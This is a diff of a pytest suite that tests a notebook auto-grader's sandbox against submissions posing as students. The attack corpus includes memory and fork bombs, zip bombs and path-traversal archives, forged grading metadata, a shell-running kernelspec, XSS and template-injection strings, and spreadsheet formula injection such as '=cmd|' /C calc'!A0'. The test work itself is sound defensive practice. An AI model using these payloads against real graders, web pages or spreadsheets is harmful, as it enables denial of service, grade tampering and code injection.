-    attempt("bpf", lambda: call("syscall", ctypes.c_long(321), 0, 0, 0, 0, 0) if os.uname().machine == "x86_64" else False)
+    attempt("bpf",
+            lambda: call("syscall", ctypes.c_long(321), 0, 0, 0, 0, 0) if os.uname().machine == "x86_64" else False)
     attempt("io_uring", lambda: call("syscall", ctypes.c_long(425), 1, ctypes.create_string_buffer(200), 0, 0, 0))
     attempt("another architecture's calls", lambda: call("personality", ctypes.c_ulong(8)))
     attempt("reboot", lambda: call("reboot", 0))
     attempt("clock", lambda: __import__("time").clock_settime(0, 0))
 """)  # fmt: skip
 LEAVES = """
-    places = ["/dev/shm", "/tmp", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd()), os.environ["TMPDIR"], os.environ["MPLCONFIGDIR"],
-              "/sandbox/server", "/sandbox/job", "/sandbox/exchange", "/run", "/run/lock", "/var/lock", "/dev", "/dev/mqueue", here.temporary]
+    places = ["/dev/shm", "/tmp", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd()), os.environ["TMPDIR"],
+              os.environ["MPLCONFIGDIR"], "/sandbox/server", "/sandbox/job", "/sandbox/exchange", "/run", "/run/lock",
+              "/var/lock", "/dev", "/dev/mqueue", here.temporary]
 """
-probe("a word for the next one: leave", LEAVES + f"""
+probe("leave a word for the next one", LEAVES + f"""
     for place in places:
         try:
             write(place + "/{MARK}word")
         except OSError:
             pass
-    for action in (lambda: libc.shmget(0x5EC2E7, 4096, 0o1666), lambda: libc.semget(0x5EC2E7, 1, 0o1666), lambda: libc.msgget(0x5EC2E7, 0o1666),
-                   lambda: libc.mq_open(b"/{MARK}", 0o102, 0o666, None), lambda: libc.shm_open(b"/{MARK}", 0o102, 0o666)):
+    for action in (
+        lambda: libc.shmget(0x5EC2E7, 4096, 0o1666), lambda: libc.semget(0x5EC2E7, 1, 0o1666),
+        lambda: libc.msgget(0x5EC2E7, 0o1666), lambda: libc.mq_open(b"/{MARK}", 0o102, 0o666, None),
+        lambda: libc.shm_open(b"/{MARK}", 0o102, 0o666),
+        lambda: socket.socket(socket.AF_UNIX).bind("\\0{MARK}bound"),
+        lambda: socket.socket(socket.AF_UNIX).bind("{MARK}bound"),
+    ):
         try:
             action()
         except (OSError, AttributeError):
             pass
     attempt("nothing", lambda: False)
 """)  # fmt: skip
-probe("a word for the next one: take up", LEAVES + f"""
+probe("take up a word that was left", LEAVES + f"""
     attempt("files", lambda: [place for place in places if os.path.exists(place + "/{MARK}word")] or False)
     attempt("shared memory", lambda: libc.shmget(0x5EC2E7, 4096, 0) >= 0)
     attempt("semaphores", lambda: libc.semget(0x5EC2E7, 1, 0) >= 0)
     attempt("messages", lambda: libc.msgget(0x5EC2E7, 0) >= 0)
     attempt("message queues", lambda: libc.mq_open(b"/{MARK}", 0) >= 0 if hasattr(libc, "mq_open") else False)
-    attempt("shared memory with a name", lambda: libc.shm_open(b"/{MARK}", 0, 0) >= 0 if hasattr(libc, "shm_open") else False)
+    attempt("shared memory with a name",
+            lambda: libc.shm_open(b"/{MARK}", 0, 0) >= 0 if hasattr(libc, "shm_open") else False)
     attempt("files that nobody took away", lambda: bool(os.listdir(os.getcwd())) or len(os.listdir("/dev/shm")) > 0
             if "namespaces" in here.kind else bool(os.listdir(os.getcwd())))
 """)  # fmt: skip
@@ -989,7 +1176,8 @@ probe("a word for the next one: take up", LEAVES + f"""
 
 def short(name: str, source: str, says: str, where: str = "double") -> None:
     """Under 3 seconds for a cell and 512 MB; the cell ends with a wrong answer."""
-    source = f"import ctypes, mmap, os, re, signal, sys, threading, time\n{textwrap.dedent(source)}\n\n{NOTHING_RIGHT[where]}"
+    imports = "import ctypes, mmap, os, re, signal, sys, threading, time\n"
+    source = f"{imports}{textwrap.dedent(source)}\n\n{NOTHING_RIGHT[where]}"
     SHORT.append(Attack(name, {where: source}, says))
 
 
@@ -1003,9 +1191,27 @@ short("a loop that ignores every signal", """
             while True: pass
         except BaseException: pass
 """, LATE)  # fmt: skip
-SHORT.append(Attack("a search in C that backtracks", {"double": "import re\ndef double(x):\n    return re.match('(a+)+$', 'a' * 60 + 'b')"}, LATE))
-SHORT.append(Attack("a sum in C", {"mean_and_spread": "def mean_and_spread(x):\n    return sum(range(10**13))"}, f"mean_and_spread: .*{LATE}"))
-short("recursion for ever", "sys.setrecursionlimit(10**9)\ndef down(): down()\ndown()", f"{LATE}|MemoryError|SIGSEGV|killed")
+SHORT.append(
+    Attack(
+        "a search in C that backtracks",
+        {
+            "double": "import re\ndef double(x):\n    return re.match('(a+)+$', 'a' * 60 + 'b')"
+        },
+        LATE,
+    )
+)
+SHORT.append(
+    Attack(
+        "a sum in C",
+        {"mean_and_spread": "def mean_and_spread(x):\n    return sum(range(10**13))"},
+        f"mean_and_spread: .*{LATE}",
+    )
+)
+short(
+    "recursion for ever",
+    "sys.setrecursionlimit(10**9)\ndef down(): down()\ndown()",
+    f"{LATE}|MemoryError|SIGSEGV|killed",
+)
 short("a power of ten", "10 ** 10**8", LATE)
 short("a sort that compares for ever", """
     class Slow:
@@ -1033,8 +1239,16 @@ short("stop its process group for good", """
     while True: time.sleep(1)
 """, LATE)  # fmt: skip
 short("print without end", "block = b'x' * 2**16\nwhile True: os.write(1, block)", LATE)
-short("a memory bomb", "held = []\nwhile True: held.append(bytearray(2**24))", "MemoryError|can't allocate memory|killed by the system")
-short("a memory bomb of tensors", "held = []\nwhile True: held.append(torch.ones(2**22))", "allocate memory|killed by the system")
+short(
+    "a memory bomb",
+    "held = []\nwhile True: held.append(bytearray(2**24))",
+    "MemoryError|can't allocate memory|killed by the system",
+)
+short(
+    "a memory bomb of tensors",
+    "held = []\nwhile True: held.append(torch.ones(2**22))",
+    "allocate memory|killed by the system",
+)
 short("a memory bomb in many processes", """
     for i in range(12):
         if os.fork() == 0:
@@ -1086,7 +1300,11 @@ BEYOND_PRIVATE = {
     """,
 }  # fmt: skip
 for where, source in BEYOND_PRIVATE.items():
-    short(f"a memory bomb in {where}", source + "\n", "MemoryError|killed by the system|OSError")
+    short(
+        f"a memory bomb in {where}",
+        source + "\n",
+        f"MemoryError|killed by the system|OSError|{LATE}",
+    )
 
 
 # -- files and notebooks
@@ -1118,7 +1336,10 @@ class Maker:
         with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
             for name, content, mode in members:
                 info = zipfile.ZipInfo(name, (2026, 3, 1, 9, 0, 0))
-                info.external_attr, info.compress_type = mode << 16, zipfile.ZIP_DEFLATED
+                info.external_attr, info.compress_type = (
+                    mode << 16,
+                    zipfile.ZIP_DEFLATED,
+                )
                 archive.writestr(info, content)
         return made.getvalue()
 
@@ -1155,7 +1376,9 @@ def _(folder, name, maker):
 
 @placed("a link in a zip", "symbolic link")
 def _(folder, name, maker):
-    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", f"../{RIGHT}.ipynb".encode(), LINK)))
+    (folder / f"{name}.zip").write_bytes(
+        maker.zipped((f"{TOPIC}.ipynb", f"../{RIGHT}.ipynb".encode(), LINK))
+    )
 
 
 @placed("a device in a zip", "no notebook|empty|No notebook|unreadable|The file")
@@ -1165,14 +1388,25 @@ def _(folder, name, maker):
 
 @placed("a zip that climbs out", "")
 def _(folder, name, maker):
-    paths = (f"../{RIGHT}.ipynb", f"../../{MARK}.ipynb", f"/tmp/{MARK}.ipynb", f"{TOPIC}/../../{RIGHT}.ipynb", f"C:\\{MARK}.ipynb", f"..\\{MARK}.ipynb")
+    paths = (
+        f"../{RIGHT}.ipynb",
+        f"../../{MARK}.ipynb",
+        f"/tmp/{MARK}.ipynb",
+        f"{TOPIC}/../../{RIGHT}.ipynb",
+        f"C:\\{MARK}.ipynb",
+        f"..\\{MARK}.ipynb",
+    )
     climbing = [(path, maker.wrong().to_bytes(), FILE) for path in paths]
-    (folder / f"{name}.zip").write_bytes(maker.zipped(*climbing, (f"{TOPIC}.ipynb", maker.wrong().to_bytes(), FILE)))
+    (folder / f"{name}.zip").write_bytes(
+        maker.zipped(*climbing, (f"{TOPIC}.ipynb", maker.wrong().to_bytes(), FILE))
+    )
 
 
 @placed("a zip bomb", "larger than")
 def _(folder, name, maker):
-    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", bytes(210 * 2**20), FILE)))
+    (folder / f"{name}.zip").write_bytes(
+        maker.zipped((f"{TOPIC}.ipynb", bytes(210 * 2**20), FILE))
+    )
 
 
 @placed("a zip of overlapping bombs", "damaged|larger|limit|no notebook")
@@ -1181,7 +1415,9 @@ def _(folder, name, maker):
     entry = one[one.index(b"PK\1\2") : one.index(b"PK\5\6")]
     end = bytearray(one[one.index(b"PK\5\6") :])
     struct.pack_into("<HHI", end, 8, 2000, 2000, 2000 * len(entry))
-    (folder / f"{name}.zip").write_bytes(bytes(one[: one.index(b"PK\1\2")] + entry * 2000 + end))
+    (folder / f"{name}.zip").write_bytes(
+        bytes(one[: one.index(b"PK\1\2")] + entry * 2000 + end)
+    )
 
 
 @placed("zips inside zips", "no notebook|zip|No notebook")
@@ -1194,7 +1430,9 @@ def _(folder, name, maker):
 
 @placed("a million cells", "5000 are read at most")
 def _(folder, name, maker):
-    (folder / f"{name}.ipynb").write_bytes(b'{"nbformat": 4, "metadata": {}, "cells": [' + b"{}," * 10**6 + b"{}]}")
+    (folder / f"{name}.ipynb").write_bytes(
+        b'{"nbformat": 4, "metadata": {}, "cells": [' + b"{}," * 10**6 + b"{}]}"
+    )
 
 
 @placed("brackets without end", "damaged|nested|no notebook")
@@ -1205,8 +1443,12 @@ def _(folder, name, maker):
 @placed("100 MB of output", VALUES)
 def _(folder, name, maker):
     work = maker.wrong()
-    work["double"]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "@"}]
-    (folder / f"{name}.ipynb").write_bytes(work.to_bytes().replace(b'"@"', b'"' + b"x" * 100 * 2**20 + b'"'))
+    work["double"]["outputs"] = [
+        {"output_type": "stream", "name": "stdout", "text": "@"}
+    ]
+    (folder / f"{name}.ipynb").write_bytes(
+        work.to_bytes().replace(b'"@"', b'"' + b"x" * 100 * 2**20 + b'"')
+    )
 
 
 @placed("more than any file may have", "larger than 200 MB")
@@ -1217,21 +1459,34 @@ def _(folder, name, maker):
 
 @placed("bytes that are no text", "not UTF-8")
 def _(folder, name, maker):
-    (folder / f"{name}.ipynb").write_bytes(maker.solved().to_bytes().replace(b"Double it", b"\xff\xfe\x80"))
+    (folder / f"{name}.ipynb").write_bytes(
+        maker.solved().to_bytes().replace(b"Double it", b"\xff\xfe\x80")
+    )
 
 
 @placed("NUL in the code", "double: ")
 def _(folder, name, maker):
-    maker.wrong(double="def double(x):\n    return 2 * x\0").save(folder / f"{name}.ipynb")
+    maker.wrong(double="def double(x):\n    return 2 * x\0").save(
+        folder / f"{name}.ipynb"
+    )
 
 
 @placed("grading data of its own", "The grading data of (check_)?\\w+ was edited")
 def _(folder, name, maker):
     work = maker.wrong()
     for grade_id in ("double", "check_double", "Scale", "check_Scale"):
-        work[grade_id]["metadata"]["nbgrader"].update(points=1e9, grade=True, locked=False, score=1e9, checksum="0")
-    work["double"]["metadata"].update(tags=["setup"], __proto__={"points": 1e9}, constructor={"prototype": {"points": 9}})
-    work.content["metadata"].update(points=1e9, kernelspec={"argv": ["/bin/sh", "-c", f"touch /tmp/{MARK}"], "name": "sh"})
+        work[grade_id]["metadata"]["nbgrader"].update(
+            points=1e9, grade=True, locked=False, score=1e9, checksum="0"
+        )
+    work["double"]["metadata"].update(
+        tags=["setup"],
+        __proto__={"points": 1e9},
+        constructor={"prototype": {"points": 9}},
+    )
+    work.content["metadata"].update(
+        points=1e9,
+        kernelspec={"argv": ["/bin/sh", "-c", f"touch /tmp/{MARK}"], "name": "sh"},
+    )
     work.save(folder / f"{name}.ipynb")
 
 
@@ -1239,9 +1494,30 @@ def _(folder, name, maker):
 def _(folder, name, maker):
     # One right answer under the labels of all: it earns what it answers, once.
     work = maker.wrong()
-    for grade_id in ("double", "mean_and_spread", "Scale", "check_double", "why", "solution", "points", "../double", "__proto__"):
-        work.add(NOTHING_RIGHT["double"] + "\nmean_and_spread = Scale = double", metadata={"nbgrader": {
-            "grade_id": grade_id, "points": 1e9, "solution": True, "grade": True, "locked": False, "schema_version": 3}})
+    for grade_id in (
+        "double",
+        "mean_and_spread",
+        "Scale",
+        "check_double",
+        "why",
+        "solution",
+        "points",
+        "../double",
+        "__proto__",
+    ):
+        work.add(
+            NOTHING_RIGHT["double"] + "\nmean_and_spread = Scale = double",
+            metadata={
+                "nbgrader": {
+                    "grade_id": grade_id,
+                    "points": 1e9,
+                    "solution": True,
+                    "grade": True,
+                    "locked": False,
+                    "schema_version": 3,
+                }
+            },
+        )
     work.save(folder / f"{name}.ipynb")
 
 
@@ -1262,9 +1538,14 @@ def _(folder, name, maker):
 @placed("an edited check and a check of its own", "was edited")
 def _(folder, name, maker):
     work = maker.wrong()
-    work["check_double"]["source"] = "check = lambda *arguments: True\nopen('gradebook', 'w')"
+    work["check_double"]["source"] = (
+        "check = lambda *arguments: True\nopen('gradebook', 'w')"
+    )
     work["setup"]["source"] += "\ndef check(*arguments):\n    return 'right'"
-    work.add("import course\ndef check(name, thing): return True\nclass Patched:\n    import course.checks as c\n    c.judge = lambda *a: True")
+    work.add(
+        "import course\ndef check(name, thing): return True\n"
+        "class Patched:\n    import course.checks as c\n    c.judge = lambda *a: True"
+    )
     work.save(folder / f"{name}.ipynb")
 
 
@@ -1278,14 +1559,18 @@ HTML = (
 )
 MARKDOWN = f"""{HTML}
 
-[click](javascript:document.title='attacked') [click](JaVaScRiPt:alert(1)) [click](data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()})
-[click](vbscript:x) <javascript:alert(1)> [a]: javascript:alert(1) ![x](http://127.0.0.1:9/x.png) ![x](x" onerror="document.title='attacked')
-[click](  java&#10;script:alert(1)) [a](&#x6A;avascript:alert(1)) <a href="javascript:alert(1)" onclick="x">y</a> `{SCRIPT}`
+[click](javascript:document.title='attacked') [click](JaVaScRiPt:alert(1))
+[click](data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()})
+[click](vbscript:x) <javascript:alert(1)> [a]: javascript:alert(1)
+![x](http://127.0.0.1:9/x.png) ![x](x" onerror="document.title='attacked')
+[click](  java&#10;script:alert(1)) [a](&#x6A;avascript:alert(1)) <a href="javascript:alert(1)" onclick="x">y</a>
+`{SCRIPT}`
 
 ```html" onmouseover="alert(1)
 {SCRIPT}
 ```
-{{{{ 7 * 7 }}}} {{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}} ${{7*7}} #{{7*7}} <%= 7*7 %> $$\\href{{javascript:alert(1)}}{{x}}$$
+{{{{ 7 * 7 }}}} {{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}
+${{7*7}} #{{7*7}} <%= 7*7 %> $$\\href{{javascript:alert(1)}}{{x}}$$
 """
 
 
@@ -1296,7 +1581,8 @@ def _(folder, name, maker):
     work.add(MARKDOWN, cell_type="markdown")
     work.add(f"note = {HTML!r}")
     work["double"]["outputs"] = [
-        {"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT, "application/javascript": "document.title='attacked'",
+        {"output_type": "display_data", "metadata": {}, "data": {
+         "text/html": SCRIPT, "application/javascript": "document.title='attacked'",
          "image/svg+xml": "<svg onload=\"document.title='attacked'\"/>", "text/markdown": MARKDOWN}},
     ]  # fmt: skip
     work.save(folder / f"{name}.ipynb")
@@ -1315,7 +1601,9 @@ def _(folder, name, maker):
 @placed("a formula in the table", "double: ")
 def _(folder, name, maker):
     formulas = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")\n=cmd|\' /C calc\'!A0,"\n+1,@SUM(1)\r-2\t=3'
-    maker.wrong(double=f"def double(x):\n    raise ValueError({formulas!r})").save(folder / f"{name}.ipynb")
+    maker.wrong(double=f"def double(x):\n    raise ValueError({formulas!r})").save(
+        folder / f"{name}.ipynb"
+    )
 
 
 @placed("=cmd|' !A0", "")
@@ -1343,15 +1631,21 @@ class Graded:
         return self.place / "out"
 
     def page(self, student: str) -> str:
-        names = {json.loads(p.read_bytes())["student"]: p.stem for p in (self.out / "results").glob("*.json")}
+        names = {
+            json.loads(p.read_bytes())["student"]: p.stem
+            for p in (self.out / "results").glob("*.json")
+        }
         return (self.out / "feedback" / f"{names[student]}.html").read_text()
 
 
-def grade(attacks: list[Attack], small_course: Path, new_work, *options: str, kind: str = "") -> Graded:
+def grade(
+    attacks: list[Attack], small_course: Path, new_work, *options: str, kind: str = ""
+) -> Graded:
     """Grade a class with these attackers in a process of its own, and look at what is left afterwards.
 
     Args:
-        kind: of walls: ``""`` for the best there are, `house.NAMESPACES` without bubblewrap, `house.LANDLOCK`.
+        kind: of walls: ``""`` for the best there are, `house.NAMESPACES` without bubblewrap, `house.LANDLOCK`, or
+            ``"none"`` with the option for that.
     """
     # Not pytest's folder: only root may look into that, so that behind walls without namespaces nothing would be tried.
     place = Path(tempfile.mkdtemp(prefix="attacks-"))
@@ -1363,8 +1657,9 @@ def grade(attacks: list[Attack], small_course: Path, new_work, *options: str, ki
     with Listeners(place) as listeners, subprocess.Popen(["sleep", "3600"]) as sleeper:
         given = {
             "root": str(place / "course"), "out": str(place / "out"), "submissions": str(place / "class"),
-            "package": str(ROOT / "course"), "temporary": str(temporary), "secret": f"secret-{MARK}", "pid": os.getpid(),
-            "sleeper": sleeper.pid, "host": socket.gethostname(), "kind": kind or house.NAMESPACES, **listeners.addresses,
+            "package": str(ROOT / "course"), "temporary": str(temporary), "secret": f"secret-{MARK}",
+            "pid": os.getpid(), "sleeper": sleeper.pid, "host": socket.gethostname(), "kind": kind or house.NAMESPACES,
+            **listeners.addresses,
         }  # fmt: skip
         _fill(place / "class", attacks, Maker(new_work), given)
         before = _digest(place / "class"), _digest(place / "course"), _mounts()
@@ -1383,13 +1678,15 @@ def grade(attacks: list[Attack], small_course: Path, new_work, *options: str, ki
             "temporary files": [str(path) for path in temporary.iterdir()],
             "control groups": [str(p) for p in Path("/sys/fs/cgroup").rglob(f"course-grading-{run.pid}-*")],
             "mounts": sorted(_mounts() - before[2]),
-            "sockets": [line for line in Path("/proc/net/unix").read_text().splitlines() if line.endswith(MARK + "bound")],
+            "sockets": re.findall(rf".*{MARK}bound", Path("/proc/net/unix").read_text()),
             "connections": listeners.heard(),
             "changed submissions": sorted(set(_digest(place / "class").items()) ^ set(before[0].items())),
             "changed course": sorted(set(_digest(place / "course").items()) ^ set(before[1].items())),
-            "processes that were ended": [] if sleeper.poll() is None and _state(sleeper.pid) == "S" else ["a bystander"],
-            "files elsewhere": [str(p) for top in ("/tmp", "/dev/shm", "/var/tmp", str(ROOT / "course"), "/", sys.prefix)
-                                for p in Path(top).glob(f"{MARK}*")],
+            "bystanders that were touched": [s for s in [_state(sleeper.pid)] if s != "S"],
+            "files elsewhere": [
+                str(path) for top in ("/tmp", "/dev/shm", "/var/tmp", str(ROOT / "course"), "/", sys.prefix)
+                for path in Path(top).glob(f"{MARK}*")
+            ],
         }  # fmt: skip
         sleeper.kill()
     rows = {}
@@ -1440,7 +1737,8 @@ class Listeners:
         self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         self.udp.bind(("0.0.0.0", 0))
         self.abstract, self.by_path, self.datagrams = (
-            socket.socket(socket.AF_UNIX, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_DGRAM)
+            socket.socket(socket.AF_UNIX, kind)
+            for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_DGRAM)
         )
         name = f"course-attack-{place.name}"
         self.abstract.bind(f"\0{name}")
@@ -1475,7 +1773,14 @@ class Listeners:
         return self
 
     def __exit__(self, *error) -> None:
-        for line in (self.tcp, self.tcp6, self.udp, self.abstract, self.by_path, self.datagrams):
+        for line in (
+            self.tcp,
+            self.tcp6,
+            self.udp,
+            self.abstract,
+            self.by_path,
+            self.datagrams,
+        ):
             line.close()
 
 
@@ -1496,13 +1801,20 @@ def _digest(folder: Path) -> dict[str, str]:
         status = path.lstat()
         content = str(path.readlink()) if path.is_symlink() else ""
         if stat.S_ISREG(status.st_mode):
-            content = hashlib.sha256(path.read_bytes()).hexdigest() if status.st_size < 2**30 else str(status.st_size)
+            content = (
+                hashlib.sha256(path.read_bytes()).hexdigest()
+                if status.st_size < 2**30
+                else str(status.st_size)
+            )
         found[str(path)] = f"{status.st_mode} {content}"
     return found
 
 
 def _mounts() -> set[str]:
-    return {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}
+    return {
+        line.split()[4]
+        for line in Path("/proc/self/mountinfo").read_text().splitlines()
+    }
 
 
 def _processes(*marks: str) -> list[str]:
@@ -1511,10 +1823,14 @@ def _processes(*marks: str) -> list[str]:
         found = []
         for folder in Path("/proc").glob("[0-9]*"):
             try:
-                text = (folder / "environ").read_bytes() + (folder / "cmdline").read_bytes()
+                text = (folder / "environ").read_bytes() + (
+                    folder / "cmdline"
+                ).read_bytes()
             except OSError:
                 continue
-            if int(folder.name) != os.getpid() and any(mark.encode() in text for mark in marks):
+            if int(folder.name) != os.getpid() and any(
+                mark.encode() in text for mark in marks
+            ):
                 found.append(f"{folder.name} {text[-200:]!r}")
         if not found:
             return []
@@ -1529,51 +1845,91 @@ def _state(pid: int) -> str:
 @pytest.fixture(scope="module")
 def graded(small_course, new_work):
     """The class with everything in it, behind the best walls that there are."""
-    made = grade([*CLASS, *PROBES], small_course, new_work, "--workers", "2", "--timeout", "30", "--memory", str(2**30))
+    made = grade(
+        [*CLASS, *PROBES],
+        small_course,
+        new_work,
+        "--workers",
+        "2",
+        "--timeout",
+        "30",
+        "--memory",
+        str(2**30),
+    )
     yield made
     remove_folder(made.place)
 
 
 @pytest.fixture(scope="module")
 def short_of_time(small_course, new_work):
-    made = grade(SHORT, small_course, new_work, "--workers", "6", "--timeout", "3", "--memory", str(2**29))
+    made = grade(
+        SHORT,
+        small_course,
+        new_work,
+        "--workers",
+        "6",
+        "--timeout",
+        "3",
+        "--memory",
+        str(2**29),
+    )
     yield made
     remove_folder(made.place)
 
 
-@pytest.fixture(scope="module", params=[house.NAMESPACES, house.LANDLOCK])
+@pytest.fixture(scope="module", params=[pytest.param(house.NAMESPACES, marks=pytest.mark.long), house.LANDLOCK])
 def weaker(request, small_course, new_work):
     """The probes, and the attacks on the scratch folder, behind the other kinds of walls."""
     if request.param == house.LANDLOCK and landlock.supported() < 6:
         pytest.skip("this kernel's Landlock does not keep signals in")
-    made = grade(ON_ALL_WALLS, small_course, new_work, "--workers", "2", "--timeout", "30", "--memory", str(2**30), kind=request.param)
+    made = grade(
+        ON_ALL_WALLS,
+        small_course,
+        new_work,
+        "--workers",
+        "2",
+        "--timeout",
+        "10",
+        "--memory",
+        str(2**30),
+        kind=request.param,
+    )
     yield made
     remove_folder(made.place)
 
 
 ENDINGS = ("kill everyone", "kill its", "stop who", "processes that go on", "folders", "links to", "too many",
            "a detached process", "os._exit", "os.abort", "close everything", "two megabytes")  # fmt: skip
-NOT_BEHIND_LANDLOCK = dict.fromkeys(
-    ("too many files", "too many bytes in files"),
-    "the scratch folder is an ordinary one there, so only single files are bounded, not their number nor all of them",
-)
-ON_ALL_WALLS = [*PROBES, *(attack for attack in CLASS if attack.name.startswith(ENDINGS))]
+ON_ALL_WALLS = [
+    *PROBES,
+    *(attack for attack in CLASS if attack.name.startswith(ENDINGS)),
+]
 
 
 def by_name(attacks: list[Attack]):
-    return pytest.mark.parametrize("attack", attacks, ids=[attack.name for attack in attacks])
+    return pytest.mark.parametrize(
+        "attack", attacks, ids=[attack.name for attack in attacks]
+    )
 
 
 def check(graded: Graded, attack: Attack) -> None:
-    names = {str(json.loads(path.read_bytes())["student"]) for path in (graded.out / "results").glob("*.json")}
+    names = {
+        str(json.loads(path.read_bytes())["student"])
+        for path in (graded.out / "results").glob("*.json")
+    }
     assert graded.status == 0, graded.said[-3000:]
-    row = graded.rows.get(attack.name) or graded.rows.get(f"'{attack.name}")  # of a name that is no formula any more
+    row = graded.rows.get(attack.name) or graded.rows.get(
+        f"'{attack.name}"
+    )  # of a name that is no formula any more
     assert row is not None, f"no row for {attack.name}; there is {sorted(graded.rows)}"
     about = f"{attack.name}: {row}"
     assert attack.name in names or row["student"] in names, about
     assert float(row["points"]) == attack.points, about
     assert set(row["status"].split(",")) <= set(STATUSES), about
-    assert "no fault of the student" not in row["message"] and "the grader failed" not in row["message"], about
+    assert (
+        "no fault of the student" not in row["message"]
+        and "the grader failed" not in row["message"]
+    ), about
     assert re.search(attack.says, row["message"]), about
 
 
@@ -1583,22 +1939,41 @@ def check_the_class(graded: Graded, attacks: list[Attack]) -> None:
     assert "Traceback" not in graded.said, graded.said[-3000:]
     for student, wanted in HONEST.items():
         assert {key: graded.rows[student][key] for key in wanted} == wanted
-    assert len(graded.rows) == len(attacks) + sum(name.startswith("an honest") for name in graded.rows)
+    assert len(graded.rows) == len(attacks) + sum(
+        name.startswith("an honest") for name in graded.rows
+    )
     assert {what: found for what, found in graded.left.items() if found} == {}
     with sqlite3.connect(graded.out / "gradebook.db") as book:
-        assert book.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone() == (0,)
+        assert book.execute(
+            "SELECT count(*) FROM grade WHERE manual_score IS NOT NULL"
+        ).fetchone() == (0,)
         scores = dict(book.execute(
-            "SELECT student.id, total(grade.auto_score) FROM grade JOIN submitted_notebook ON submitted_notebook.id = grade.notebook_id "
+            "SELECT student.id, total(grade.auto_score) FROM grade "
+            "JOIN submitted_notebook ON submitted_notebook.id = grade.notebook_id "
             "JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id "
             "JOIN student ON student.id = submitted_assignment.student_id GROUP BY student.id"))  # fmt: skip
     assert scores[RIGHT] == 6.5 and scores[WRONG] == 1.5
-    assert sum(scores.values()) == pytest.approx(sum(float(row["points"]) for row in graded.rows.values()))
+    assert sum(scores.values()) == pytest.approx(
+        sum(float(row["points"]) for row in graded.rows.values())
+    )
     assert sorted(os.listdir(graded.out)) == sorted(
-        {".lock", "canvas.csv", "feedback", "gradebook.db", "grades.csv", "moodle.csv", "report.html", "results", "run.json"}
+        {
+            ".lock",
+            "canvas.csv",
+            "feedback",
+            "gradebook.db",
+            "grades.csv",
+            "moodle.csv",
+            "report.html",
+            "results",
+            "run.json",
+        }
         | ({"similar"} & set(os.listdir(graded.out)))
     )
     pages = {path.stem for path in (graded.out / "feedback").iterdir()}
-    assert pages == {path.stem for path in (graded.out / "results").iterdir()} and len(pages) == len(graded.rows)
+    assert pages == {path.stem for path in (graded.out / "results").iterdir()} and len(
+        pages
+    ) == len(graded.rows)
 
 
 @by_name([*CLASS, *PROBES])
@@ -1611,14 +1986,42 @@ def test_the_class_of_attackers_is_graded_as_if_they_were_not_there(graded):
 
 
 @by_name(ON_ALL_WALLS)
-def test_attack_on_other_walls(weaker, attack, request):
-    if weaker.kind == house.LANDLOCK and attack.name in NOT_BEHIND_LANDLOCK:
-        request.applymarker(pytest.mark.xfail(strict=True, reason=NOT_BEHIND_LANDLOCK[attack.name]))
+def test_attack_on_other_walls(weaker, attack):
     check(weaker, attack)
 
 
 def test_behind_other_walls_nothing_is_left_and_nothing_changed(weaker):
     check_the_class(weaker, ON_ALL_WALLS)
+
+
+@pytest.mark.long
+def test_without_walls_the_probes_reach_what_they_are_after(small_course, new_work):
+    """So it is the walls that keep them from it."""
+    harmless = (
+        "read the answers",
+        "find the answers",
+        "look through",
+        "search frames",
+        "send something",
+    )
+    probes = [attack for attack in PROBES if attack.name.startswith(harmless)]
+    made = grade(
+        probes,
+        small_course,
+        new_work,
+        "--workers",
+        "2",
+        "--sandbox",
+        "none",
+        kind="none",
+    )
+    try:
+        for attack in probes:
+            assert re.search(r"reached \['", made.rows[attack.name]["message"]), (
+                attack.name
+            )
+    finally:
+        remove_folder(made.place)
 
 
 @by_name(SHORT)
@@ -1645,12 +2048,13 @@ def test_a_folder_is_removed_whatever_is_in_it(user):
             os.chdir(place)
             os.symlink(kept, "link")
             os.mkfifo("pipe")
-            for i in range(1500):
+            for i in range(1100):
                 os.mkdir("d")
-                os.symlink(kept, f"d/l{i}")
+                if i % 100 == 0:
+                    os.symlink(kept, f"d/l{i}")
                 os.chdir("d")
             os.mkdir("closed", 0)
-            for i in range(1500):
+            for _ in range(1100):
                 os.chdir("..")
             os.chmod("d", 0)
             remove_folder(place)
@@ -1675,23 +2079,52 @@ class Elements(html.parser.HTMLParser):
 
 
 def test_no_page_holds_anything_that_runs_or_loads(graded):
-    pages = [*(graded.out / "feedback").iterdir(), graded.out / "report.html", *graded.out.glob("similar/*.html")]
+    pages = [
+        *(graded.out / "feedback").iterdir(),
+        graded.out / "report.html",
+        *graded.out.glob("similar/*.html"),
+    ]
     for page in pages:
         text = page.read_text(encoding="utf-8")
         assert "default-src 'none'" in text
         for tag, attributes in Elements(text).found:
-            assert tag not in ("script", "iframe", "object", "embed", "form", "base", "link", "svg", "button"), (page, tag)
-            assert not any(name.startswith("on") for name in attributes), (page, attributes)
-            assert attributes.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
+            assert tag not in (
+                "script",
+                "iframe",
+                "object",
+                "embed",
+                "form",
+                "base",
+                "link",
+                "svg",
+                "button",
+            ), (page, tag)
+            assert not any(name.startswith("on") for name in attributes), (
+                page,
+                attributes,
+            )
+            assert (
+                attributes.get("http-equiv", "Content-Security-Policy")
+                == "Content-Security-Policy"
+            )
             for name in ("href", "src"):
                 value = (attributes.get(name) or "").strip().lower()
-                assert not re.match(r"[\x00-\x20]*(java|vb)?script:|data:(?!image/png;base64,)", value), (page, value)
